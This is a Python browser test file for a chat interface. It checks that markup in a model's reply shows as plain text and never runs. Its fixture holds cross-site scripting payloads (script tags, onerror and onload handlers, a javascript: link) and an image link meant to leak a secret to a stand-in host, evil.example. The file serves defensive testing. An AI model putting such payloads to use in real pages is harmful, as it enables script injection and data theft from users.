"""What a model writes is hostile input: markup is text, nothing runs, nothing is fetched."""

import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect

from backend.chunks import Chunk, StateChange, Text
from backend.journal import Journal
from backend.rows import Attempt, Conversation, Message
from backend.states import Reason, State
from tests.browser.conftest import Room
from tests.browser.running_pagoda import RunningPagoda, give_model

HOSTILE = """\
A List<String> and #include <stdio.h> are text.

<script>window.broken = 1</script><img src=x onerror="window.broken = 2"><style>body {display: none}</style>

<iframe src="https://evil.example/frame"></iframe> ![a picture](https://evil.example/leak.png?q=secret)

[click me](javascript:window.broken=3) and [a page](https://evil.example/page) and <https://evil.example/plain>

```html
<b onclick="window.broken = 4">code</b>
```

| a | b |
|---|---|
| <svg onload="window.broken = 5"> | **bold** |
"""
THINKING = "<think>\nFirst I **wonder** <b>why</b>.\n</think>\n\nThe answer is 42."


def write_conversation(data_dir: Path, id: str, reply: str) -> None:
    """A conversation whose reply was written by a model that means harm."""
    journal = Journal(data_dir)
    now = time.time()
    journal.add_conversation(Conversation(id, "Written elsewhere", "default", now, now))
    attempt = Attempt(f"{id}_a", f"{id}_m1", id, 0, "default", now)
    user = Message(f"{id}_m0", id, 0, "user", now, "Go on", f"{id}_r")
    answer = Message(f"{id}_m1", id, 1, "assistant", now, current_attempt=attempt.id, selected_attempt=attempt.id)
    journal.add_turn(user, answer, attempt, "Written elsewhere")
    address = {"conversation_id": id, "message_id": answer.id, "attempt_id": attempt.id}
    journal.append(Chunk(**address, seq=0, offset=0, kind="text", data=Text(reply)))
    end = StateChange(State.COMPLETE, Reason.STOP)
    journal.append(Chunk(**address, seq=1, offset=len(reply), kind="state", data=end))
    journal.close()


@pytest.fixture(scope="module")
def pagoda(tmp_path_factory: pytest.TempPathFactory, default_data_dir: Path) -> Iterator[RunningPagoda]:
    data_dir = tmp_path_factory.mktemp("data")
    give_model(data_dir, default_data_dir)
    write_conversation(data_dir, "c_hostile", HOSTILE)
    write_conversation(data_dir, "c_thinking", THINKING)
    running = RunningPagoda(data_dir)
    yield running
    running.stop()


def test_markup_from_a_model_is_shown_as_text_and_never_runs(room: Room, pagoda: RunningPagoda):
    person = room.seat(pagoda.url).open_conversation("c_hostile")
    answer = person.reply().article.locator(".pg-answer")
    expect(answer).to_contain_text("A List<String> and #include <stdio.h> are text.")
    expect(answer).to_contain_text("<script>window.broken = 1</script>")
    expect(answer.locator("pre")).to_have_text('<b onclick="window.broken = 4">code</b>\n')
    expect(answer.locator("td strong")).to_have_text("bold")
    assert answer.locator("script, img, iframe, style, svg, form, [onclick], [onerror]").count() == 0
    assert person.page.evaluate("window.broken") is None
    for link in answer.locator("a").all():
        assert (link.get_attribute("href") or "").startswith("https://")
        assert link.get_attribute("target") == "_blank"
        assert link.get_attribute("rel") == "noopener noreferrer"


def test_code_can_be_copied_also_without_a_clipboard_interface(room: Room, pagoda: RunningPagoda):
    person = room.seat(pagoda.url, permissions=["clipboard-read"])
    person.page.add_init_script("navigator.clipboard.writeText = () => Promise.reject(new Error('not allowed'))")
    person.open_conversation("c_hostile").page.locator(".pg-copy-code").click()
    expect(person.page.locator(".pg-copy-code")).to_have_text("Copied")
    assert person.page.evaluate("navigator.clipboard.readText()") == '<b onclick="window.broken = 4">code</b>\n'


def test_thinking_is_folded_away_and_can_be_read(room: Room, pagoda: RunningPagoda):
    person = room.seat(pagoda.url).open_conversation("c_thinking")
    reply = person.reply()
    assert reply.text() == "The answer is 42."
    thinking = reply.article.locator(".pg-thinking .pg-prose")
    expect(thinking).not_to_be_visible()
    person.page.get_by_text("Thoughts").click()
    expect(thinking).to_have_text("First I wonder <b>why</b>.")
